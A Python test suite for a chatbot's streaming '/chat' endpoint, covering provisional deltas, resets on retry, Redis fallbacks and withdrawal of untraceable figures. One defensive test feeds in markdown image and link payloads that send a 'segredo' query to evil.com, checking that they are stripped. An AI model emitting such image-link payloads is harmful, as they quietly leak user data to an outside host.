"""`/chat` as a stream: words while they come, taken back when they are void, and the committed answer always last."""

import json
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from dataclasses import dataclass
from datetime import date
from typing import Any
from uuid import UUID, uuid4

import pytest
from redis import Redis
from werkzeug.test import TestResponse

from agent.agent import Agent, Limits
from agent.base import Situation, TurnInput
from agent.links import tame_links
from agent.scratch import ScratchJournal
from jobs.live import LiveTurn, LiveWords, live_channel
from models.errors import ProviderError
from models.session import session_scope
from models.tenant import find_tenant_account
from tests.bot.answering import answer_message
from tests.bot.conftest import Door, DoorMaker
from tests.bot.door_requests import assert_problem
from tests.fakes import FixedClock, ScriptedProvider
from tests.listening import Ear, listening

KEY = "question-1"


@dataclass
class Stream:
    """One answer as its reader sees it."""

    response: TestResponse
    events: Iterator[tuple[str, dict[str, Any]]]

    def next(self) -> tuple[str, dict[str, Any]]:
        return next(self.events)


def _read(chunks: Iterator[bytes]) -> Iterator[tuple[str, dict[str, Any]]]:
    for chunk in chunks:
        if not chunk.startswith(b":"):
            name, data = chunk.decode().strip().split("\n")
            yield name.removeprefix("event: "), json.loads(data.removeprefix("data: "))


@contextmanager
def streamed(door: Door, message: str = "Oi") -> Iterator[Stream]:
    body = {"user_id": "ana", "message": message, "stream": True}
    response = door.client.post("/chat", json=body, headers={"Idempotency-Key": KEY}, buffered=False)
    try:
        yield Stream(response, _read(iter(response.response)))  # type: ignore[arg-type]
    finally:
        response.close()


def listener(door: Door, tame: Callable[[str], str] = lambda text: text) -> LiveTurn | None:
    """A worker's, for the question with KEY."""
    with session_scope(door.engine) as connection:
        tenant_id = connection.exec_driver_sql("SELECT id FROM tenant").scalar_one()
        account = find_tenant_account(connection, tenant_id, channel="chat")
    assert account is not None
    return LiveWords(door.services.queue.connection).listen(live_channel(account.id, KEY), tame)


def commit(door: Door, begun: dict[str, Any], text: str) -> None:
    with session_scope(door.engine) as connection:
        answer_message(connection, UUID(begun["turn_id"]), text)


def _say(live: LiveTurn, *words: str) -> None:
    for word in words:
        live.say(word)


LINE = "Vendemos R$ 10,00 em março para a Padaria Sol. "


def test_words_come_before_the_answer_and_the_committed_answer_comes_last(door: Door) -> None:
    with streamed(door) as stream:
        assert stream.response.content_type == "text/event-stream"
        assert stream.response.headers["Cache-Control"] == "no-store"
        name, begun = stream.next()
        assert (name, begun["status"]) == ("begun", "pending")
        live = listener(door)
        assert live is not None
        _say(live, *LINE.split(" ", 3))
        _say(live, " ")
        assert stream.next()[0] == "delta"
        commit(door, begun, "Vendemos R$ 10,00.")
        *deltas, (last, answer) = stream.events
        assert last == "answer"
        assert answer["response"] == "Vendemos R$ 10,00."  # whatever was said on the way
        assert all(name == "delta" and body["provisional"] is True for name, body in deltas)
        polled = door.client.get(f"/chat/{begun['turn_id']}").get_json()
        assert polled == answer


def test_a_new_try_takes_back_what_was_said(door: Door) -> None:
    with streamed(door) as stream:
        begun = stream.next()[1]
        first = listener(door)
        assert first is not None
        first.say(LINE)
        assert stream.next() == ("delta", {"text": LINE, "provisional": True})
        second = listener(door)  # another worker, after the first one died
        assert second is not None
        second.say("Em março foram R$ 12,00 ao todo. ")
        assert stream.next() == ("reset", {})
        assert stream.next()[1]["text"].startswith("Em março")
        first.say(LINE)  # the dead one is not quite dead: its words fit nowhere
        commit(door, begun, "R$ 12,00.")
        assert [name for name, _ in stream.events] == ["answer"]


def test_nobody_who_does_not_ask_for_a_stream_costs_a_worker_one(door: Door) -> None:
    door.client.post(
        "/chat", json={"user_id": "ana", "message": "Oi"}, headers={"Idempotency-Key": KEY, "Prefer": "respond-async"}
    )
    assert listener(door) is None


def test_a_reader_who_goes_away_leaves_her_place_and_is_heard_no_more(make_door: DoorMaker) -> None:
    door = make_door(web_threads=4)  # two places
    for _ in range(5):
        with streamed(door) as stream:
            assert stream.next()[0] == "begun"
            assert listener(door) is not None
        assert listener(door) is None


def test_without_a_free_place_the_answer_is_to_be_fetched(make_door: DoorMaker) -> None:
    door = make_door(web_threads=4)
    with streamed(door), streamed(door), streamed(door) as third:
        assert third.response.status_code == 202
        assert third.response.headers["Location"].startswith("/chat/")


def test_an_answer_that_takes_too_long_is_to_be_fetched(make_door: DoorMaker) -> None:
    with streamed(make_door(chat_wait_seconds=0.3)) as stream:
        assert [name for name, _ in stream.events] == ["begun", "pending"]


def test_an_answer_that_is_there_already_comes_at_once(door: Door) -> None:
    with streamed(door) as stream:
        commit(door, stream.next()[1], "Olá")
    with streamed(door) as again:
        assert [name for name, _ in again.events] == ["begun", "answer"]


def test_without_redis_the_answer_comes_in_one_piece(make_door: DoorMaker) -> None:
    from dataclasses import replace

    from bot.app import create_app, door_of

    door = make_door()
    app = create_app(replace(door.services, redis_url="redis://127.0.0.1:1/0"))
    away = Door(app, door.services)
    with streamed(away) as stream:
        begun = stream.next()[1]
        commit(door, begun, "Olá")
        assert [name for name, _ in stream.events] == ["answer"]
    door_of(app).close()
    app.redis_conn.close()  # type: ignore[attr-defined]


@pytest.mark.parametrize("stream", ["yes", 1, None, []])
def test_stream_is_true_or_false(door: Door, stream: object) -> None:
    assert_problem(door.client.post("/chat", json={"user_id": "ana", "message": "Oi", "stream": stream}), 400)


def test_stream_false_is_an_answer_as_ever(make_door: DoorMaker) -> None:
    door = make_door(chat_wait_seconds=0)
    response = door.client.post("/chat", json={"user_id": "ana", "message": "Oi", "stream": False})
    assert (response.status_code, response.content_type) == (202, "application/json")


# The worker's end.


@pytest.fixture
def line(redis_url: str) -> Iterator[Ear]:
    with listening(redis_url, live_channel(uuid4(), "q")) as ear:
        yield ear


def _shown(messages: list[dict[str, Any]]) -> list[str]:
    """What a reader sees after each message."""
    seen = [""]
    for message in messages:
        seen.append("" if message.get("reset") else seen[-1] + message["text"])
    return seen


def test_no_link_is_ever_seen_that_the_reply_would_not_hold(line: Ear) -> None:
    live = LiveWords(line.redis).listen(line.name, tame_links)
    assert live is not None
    text = "Veja ![gráfico](https://evil.com/?q=segredo) e [aqui](https://evil.com/x y) ou evil.com agora. "
    for letter in text * 3:
        live.say(letter)
    seen = _shown(line.messages())
    assert len(seen) > 5
    assert not [shown for shown in seen if "evil.com" in shown]
    assert seen[-1].count("agora") == 3


def test_a_redis_that_is_away_mutes_and_never_raises() -> None:
    with Redis.from_url("redis://127.0.0.1:1/0") as nowhere:
        assert LiveWords(nowhere).listen("x", str) is None
        live = LiveTurn(nowhere, "x", str)
        live.begin()
        live.say(LINE)
        assert not live.is_heard


def _run(provider: ScriptedProvider, live: LiveTurn) -> str:
    agent = Agent(provider, "an-llm", {}, Limits(), FixedClock())
    situation = Situation(date(2026, 3, 2), role="manager", person_name="Ana")
    turn = TurnInput(uuid4(), "Quanto vendi?", [], situation, "America/Sao_Paulo")
    return agent.run(turn, ScratchJournal(), listener=live).text


def test_an_agent_that_is_heard_answers_what_it_answers_unheard(line: Ear) -> None:
    live = LiveWords(line.redis).listen(line.name, str)
    assert live is not None
    words = "Bom dia, Ana, e obrigada pela pergunta de hoje. " * 3
    assert _run(ScriptedProvider([words]), live) == words.strip()
    messages = line.messages()
    assert [message["n"] for message in messages] == list(range(len(messages)))
    assert words.startswith(_shown(messages)[-1])
    assert len(_shown(messages)[-1]) > len(words) / 2


def test_a_draft_whose_figures_nobody_can_trace_is_taken_back_before_the_eyes(line: Ear) -> None:
    live = LiveWords(line.redis).listen(line.name, str)
    assert live is not None
    assert "10,00" not in _run(ScriptedProvider([LINE * 2, "Não sei quanto foi, e não vou adivinhar agora."]), live)
    seen = _shown(line.messages())
    assert any("10,00" in shown for shown in seen)
    assert "10,00" not in seen[-1]


def test_an_agent_whose_stream_ends_too_early_has_not_answered(line: Ear) -> None:
    class Cut(ScriptedProvider):
        def stream(self, request: Any) -> Iterator[Any]:
            yield LINE

    live = LiveWords(line.redis).listen(line.name, str)
    assert live is not None
    with pytest.raises(ProviderError) as caught:
        _run(Cut(), live)
    assert caught.value.kind == "truncated"
